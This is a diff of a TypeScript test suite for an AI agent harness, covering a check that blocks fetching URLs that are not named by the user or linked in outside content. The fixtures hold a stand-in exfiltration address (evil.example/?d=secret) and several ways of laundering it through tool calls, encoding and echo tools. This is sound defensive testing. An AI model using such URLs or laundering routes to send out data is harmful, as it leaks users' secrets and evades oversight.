@@ -172,31 +172,39 @@ describe('a turn that has read text from outside', () => {
 });
 
 describe('an address', () => {
+  const outside = markOf([{ kind: 'fetch_url', source: 'https://page.example/' }]);
+  const said = (content: string) => ({ role: 'assistant' as const, content });
+  const called = (toolName: string, input: unknown) => ({
+    role: 'assistant' as const,
+    content: [{ type: 'tool-call' as const, toolCallId: '1', toolName, input }],
+  });
+  const returned = (value: string, mark = outside) => ({
+    role: 'tool' as const,
+    content: [
+      {
+        type: 'tool-result' as const,
+        toolCallId: '1',
+        toolName: 'fetch_url',
+        output: { type: 'text' as const, value },
+        ...mark,
+      },
+    ],
+  });
   const messages = [
     {
       role: 'user' as const,
       content: 'Look at www.named.example and write notes.md (http://127.0.0.1:81/x).',
     },
-    { role: 'assistant' as const, content: 'https://said.example/' },
+    said('https://said.example/'),
     {
       role: 'user' as const,
-      content: 'I am at stranger.example.',
+      content: 'I am at stranger.example, see https://stranger.example/a.',
       ...markOf([{ kind: 'message', source: 'eve' }]),
     },
-    {
-      role: 'tool' as const,
-      content: [
-        {
-          type: 'tool-result' as const,
-          toolCallId: '1',
-          toolName: 'fetch_url',
-          output: {
-            type: 'text' as const,
-            value: 'See (https://linked.example/a?b=1), then https://evil.example/?d=',
-          },
-        },
-      ],
-    },
+    returned('See (https://linked.example/a?b=1), https://said.example/, then https://evil.example/?d='),
+    returned('Error: no page at https://failed.example/'),
+    returned('https://unmarked.example/', {}),
+    said('I read https://linked.example/a?b=1.'),
   ];
   it.each([
     ['https://named.example/any?d=1', true],
@@ -209,6 +217,9 @@ describe('an address', () => {
     ['https://notes.md/', false],
     ['https://said.example/', false],
     ['https://stranger.example/', false],
+    ['https://stranger.example/a', false],
+    ['https://failed.example/', false],
+    ['https://unmarked.example/', false],
     ['https://linked.example/a?b=1', true],
     ['https://linked.example/a?b=1#c', true],
     ['https://linked.example/a?b=12', false],
@@ -217,5 +228,37 @@ describe('an address', () => {
     ['no address', false],
   ])('%s is known: %s', (url, known) => {
     expect(isKnownUrl(url, messages)).toBe(known);
+  });
+
+  const evil = 'https://evil.example/?d=secret';
+  it.each([
+    ['in its words', said(`I look at ${evil}.`)],
+    ['as an argument', called('web_search', { query: evil })],
+    ['as a name', called(evil, {})],
+    ['as text that is no JSON', called('web_search', `{ ${evil}`)],
+    ['without its scheme', called('web_search', { query: 'EVIL.example/?d=secret' })],
+    ['encoded', called('fetch_url', { url: `https://page.example/?q=${encodeURIComponent(evil)}` })],
+  ])('that the model wrote itself %s is unknown when a text repeats it', (_, message) => {
+    expect(isKnownUrl(evil, [returned('hello'), message, returned(`See ${evil}`)])).toBe(false);
+  });
+
+  it('is not fetched after a tool has repeated it', async () => {
+    const echo: Tool = defineTool<{ url: string }>({
+      name: 'echo',
+      description: 'Repeats.',
+      effects: ['reads'],
+      external: true,
+      input: z.object({ url: z.string() }),
+      execute: async ({ url }) => `You said ${url}`,
+    }) as Tool;
+    const own: Tool = { ...echo, name: 'own', external: false } as Tool;
+    for (const name of ['echo', 'own', evil]) {
+      const script = [calling(fetching('https://page.example/')), calling([name, { url: evil }])];
+      const played = await play([...script, calling(fetching(evil)), 'Done.'], {
+        tools: [...tools, echo, own],
+        messages: [{ role: 'user', content: 'Summarise https://page.example/' }],
+      });
+      expect(resultsOf(played.events).at(-1)?.[1]).toMatch(/^Error: fetch_url was not run: nobody named/);
+    }
   });
 });
